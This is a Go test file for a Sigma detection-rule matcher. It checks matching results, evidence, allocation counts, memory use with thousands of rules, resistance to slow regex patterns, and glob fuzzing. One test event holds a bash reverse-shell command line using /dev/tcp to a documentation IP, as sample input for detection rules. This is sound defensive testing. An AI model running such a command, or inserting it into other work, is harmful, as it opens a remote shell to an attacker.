package sigma

import (
	"strings"
	"testing"
)

func TestTypedEvent(t *testing.T) {
	set := parseWith(t, Options{}, rule("  s:\n    Image|endswith: /sh\n    CommandLine|contains: 'sh -c id'\n    CommandLine|cased|contains: 'X'\n    ProcessId|gte: 100\n  condition: s\n"))
	m := set.NewMatcher()
	var ev Event
	for range 3 { // the same event may be matched again, by this Matcher or another
		ev.Reset(ProcessCreation)
		ev.Set(Image, "/usr/bin/dash")
		ev.Set(Image, "/bin/sh")
		ev.Set(Image, "/bin/sh")
		ev.SetArgs(CommandLine, "SH\x00-c\x00id X\x00")
		ev.SetInt(ProcessID, 4711)
		hits := m.Match(&ev, nil)
		again := set.NewMatcher().Match(&ev, nil)
		if len(hits) != 1 || len(again) != 1 || len(ev.slots) != 4 {
			t.Fatalf("%d and %d matches of %d values", len(hits), len(again), len(ev.slots))
		}
		m.Match(&ev, nil)
		evidence := m.Evidence(hits[0], nil)
		want := []Evidence{{"s", "Image", "/bin/sh"}, {"s", "CommandLine", "SH -c id X"}, {"s", "ProcessId", "4711"}}
		if len(evidence) != len(want) {
			t.Fatalf("evidence %v", evidence)
		}
		for i := range want {
			if evidence[i] != want[i] {
				t.Errorf("evidence %v, want %v", evidence[i], want[i])
			}
		}
	}
}

// TestMatchAllocatesNothing covers misses, and hits with room in dst.
func TestMatchAllocatesNothing(t *testing.T) {
	set := Load(Options{}, Path("../rules"))
	if len(set.Entries()) < 40 {
		t.Fatalf("%d rules", len(set.Entries()))
	}
	m := set.NewMatcher()
	var ev Event
	hits := make([]*Entry, 0, 8)
	for i := range 6 { // let the buffers grow
		ordinaryEvent(&ev, i)
		m.Match(&ev, hits)
	}
	i := 0
	if n := testing.AllocsPerRun(1000, func() { ordinaryEvent(&ev, i); hits = m.Match(&ev, hits[:0]); i++ }); n != 0 {
		t.Errorf("%v allocations for an ordinary event", n)
	}
	matched := 0
	if n := testing.AllocsPerRun(1000, func() {
		ev.Reset(ProcessCreation)
		ev.Set(Image, "/usr/bin/BASH")
		ev.SetArgs(CommandLine, "bash\x00-c\x00Bash -i >& /dev/tcp/203.0.113.7/4444 0>&1\x00")
		matched += len(m.Match(&ev, hits[:0]))
	}); n != 0 || matched == 0 {
		t.Errorf("%v allocations, %d matches", n, matched)
	}
}

// TestManyRules proves that what 3,000 rules take stays within its budget of
// memory, and that an ordinary event meets few of them.
func TestManyRules(t *testing.T) {
	before := heap()
	set := parseWith(t, Options{}, generated(3000))
	if kept := int64(heap()) - int64(before); kept > 15<<20 {
		t.Errorf("3,000 rules keep %d bytes", kept)
	}
	m := set.NewMatcher()
	var ev Event
	for i := range 600 {
		ordinaryEvent(&ev, i)
		m.Match(&ev, nil)
	}
	evaluated := uint64(0)
	for _, e := range set.Entries() {
		evaluated += e.Stats().Evaluated
	}
	if evaluated > 600 {
		t.Errorf("%d evaluations in full for 600 ordinary events", evaluated)
	}
}

// TestHostileText gives the matcher text on which careless matching is slow; a
// quadratic one would not end within the test's time.
func TestHostileText(t *testing.T) {
	set := parseText(t, rule("  s:\n    F: '*a*a*a*a*a*a*a*b'\n    G|re: '(a+)+$'\n    H|contains: 'a?a?a?a?b'\n  condition: 1 of them\n"))
	m := set.NewMatcher()
	var ev Event
	for range 10 {
		ev.Reset(ProcessCreation)
		for _, f := range []string{"F", "G", "H"} {
			ev.Set(set.Field(f), strings.Repeat("a", 100_000)+"!")
		}
		if len(m.Match(&ev, nil)) != 0 {
			t.Fatal("matches")
		}
	}
}

func FuzzGlob(f *testing.F) {
	f.Add("a*b?c", "aXbYc")
	f.Add("*é?*", "aéb\xff")
	f.Add(`\*\?\\*`, `*?\x`)
	f.Fuzz(func(t *testing.T, pattern, text string) {
		if len(pattern) > 24 || len(text) > 40 {
			return
		}
		parts := joinText(parseParts(strings.ToValidUTF8(pattern, "")))
		if got, want := globMatch(parts, text), plainGlob(parts, text, true); got != want {
			t.Fatalf("%q on %q: %v, want %v", pattern, text, got, want)
		}
	})
}
